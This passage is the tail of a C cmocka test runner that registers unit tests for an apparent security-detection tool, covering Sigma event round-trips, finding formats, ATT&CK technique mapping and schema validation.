	tests[n++] = (struct CMUnitTest)cmocka_unit_test(
		user_is_absent_when_the_container_cannot_say);
	tests[n++] = (struct CMUnitTest)cmocka_unit_test(sigma_event_json_reads_back_the_same);
	tests[n++] = (struct CMUnitTest)cmocka_unit_test(matches_become_findings_in_both_shapes);
	tests[n++] = (struct CMUnitTest)cmocka_unit_test(intel_url_on_the_command_line_is_a_finding);
	tests[n++] = (struct CMUnitTest)cmocka_unit_test(unknown_ctd_category_is_refused);
	tests[n++] = (struct CMUnitTest)cmocka_unit_test(attack_ids_map_to_the_kinds_techniques);
	tests[n++] = (struct CMUnitTest)cmocka_unit_test(
		scc_findings_pass_schema_and_strict_proto3_parse);
	tests[n++] = (struct CMUnitTest)cmocka_unit_test(flat_findings_pass_the_schema);
	tests[n++] = (struct CMUnitTest)cmocka_unit_test(broken_rule_findings_fail_the_checks);
	return _cmocka_run_group_tests("exec", tests, n, setup, teardown);
}
